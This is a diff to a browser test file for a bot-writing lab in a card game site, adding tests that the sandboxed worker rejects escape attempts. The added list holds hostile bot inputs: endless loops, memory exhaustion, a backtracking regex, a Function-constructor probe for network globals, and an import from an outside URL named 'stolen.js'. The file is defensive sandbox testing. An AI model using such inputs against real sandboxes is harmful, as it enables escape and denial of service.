@@ -1,6 +1,7 @@
 /** The Bot Lab in a real browser: somebody follows the steps to a bot that beats the beginner, compares, looks closely, and submits it. */
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { accessibilityFaults, openSite, type Site, scrollsSideways } from "./testing/site.ts";
+import { moveUntilAnswered } from "./testing/uno.ts";
 
 let site: Site;
 beforeAll(async () => {
@@ -45,7 +46,25 @@ test("the steps lead to a bot that beats the beginner; versions are kept and com
   await context.close();
 });
 
-test("the editor knows the types of what a bot is given: they are offered, and what does not fit is told", async () => {
+const deciding = (body: string) => `export function decide(view, legal) { ${body}; return legal[0]; }`;
+/** Texts that try to break out of the page's worker, and what the page says of them. */
+const attacks: readonly (readonly [text: string, told: RegExp])[] = [
+  [deciding("for (;;);"), /thought too long/],
+  [deciding("const kept = []; for (;;) kept.push(new Uint8Array(100000))"), /too much memory/],
+  [deciding("/^(a+)+$/.test('a'.repeat(40) + 'b')"), /thought too long/],
+  // By the constructor of functions too nothing of the browser is found: no network, no page.
+  [
+    deciding(
+      "const all = decide.constructor('return this')(); throw new Error(['fetch', 'WebSocket', 'XMLHttpRequest', 'importScripts', 'postMessage', 'self', 'navigator', 'indexedDB'].filter((name) => name in all).length + ' found')",
+    ),
+    /Error: 0 found/,
+  ],
+  [`import { stolen } from "https://example.org/stolen.js"; ${deciding("stolen()")}`, /stolen\.js/],
+];
+/** What takes off its types needs twice as long for each of these. */
+const endless = `export const decide = ${"<T>(".repeat(60)}${")".repeat(60)};`;
+
+test("the editor knows the types of what a bot is given; what tries to break out is told, and costs nobody the page", async () => {
   const { page, context } = await openLab();
   const editor = page.getByRole("textbox", { name: "The bot’s text" });
   const write = async (text: string) => {
@@ -62,10 +81,38 @@ test("the editor knows the types of what a bot is given: they are offered, and w
   // Letters that are keys of the site elsewhere are letters here.
   await page.keyboard.type(".pen");
   await page.getByRole("option", { name: /pending/ }).waitFor();
+  await page.keyboard.press("Escape");
+
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(new URL(request.url()).host));
+  const checked = page.locator(".lab-checked");
+  for (const [text, words] of attacks) {
+    await write(text);
+    await checked.getByText(words).waitFor();
+  }
+  await page.clock.install();
+  await write(endless);
+  await checked.and(page.locator("[data-state=checking]")).waitFor();
+  await page.clock.fastForward(10_000);
+  await checked.getByText("The bot does not come to an end.").waitFor();
+  const run = page.getByRole("region", { name: "Play", exact: true });
+  await run.getByRole("button", { name: "Play the games" }).click();
+  await run.getByRole("button", { name: "Stop" }).waitFor();
+  // It has begun at some moment.
+  await expect
+    .poll(async () => {
+      await page.clock.fastForward(60_000);
+      return run.getByText("Stopped: the bot does not come to an end.").count();
+    })
+    .toBe(1);
+  expect(await accessibilityFaults(page)).toEqual([]);
+  await write(deciding(""));
+  await page.getByText("No faults found.").waitFor();
+  expect(asked.filter((host) => host !== new URL(site.server.address).host)).toEqual([]);
   await context.close();
 });
 
-test("a game is gone through decision by decision; whoever has an account submits the bot, and takes it back", async () => {
+test("a game is gone through decision by decision; whoever has an account submits the bot, plays it at a table, and takes it back", async () => {
   const { page, context, faults } = await openLab();
   const debug = page.getByRole("region", { name: "Step through a game" });
   await debug.getByRole("button", { name: "Play a game" }).click();
@@ -88,6 +135,14 @@ test("a game is gone through decision by decision; whoever has an account submit
   await submit.getByRole("link", { name: "To its page" }).click();
   await page.getByText("checked", { exact: true }).waitFor();
   await page.getByRole("heading", { name: "Head to head" }).waitFor();
+
+  // Whoever likes sits down against it, though nobody has a program running anywhere.
+  const itsPage = page.url();
+  await page.getByRole("button", { name: "Play against Első lépések" }).click();
+  await page.waitForURL("**/table/*");
+  await moveUntilAnswered({ page, context });
+  await page.request.post(`${site.server.address}/api/tables/${page.url().split("/").at(-1)}/leave`);
+  await page.goto(itsPage);
   await page.getByRole("button", { name: "Take it off the server" }).click();
   await page.getByRole("heading", { name: "Runs on the server" }).waitFor({ state: "detached" });
   expect(await accessibilityFaults(page)).toEqual([]);
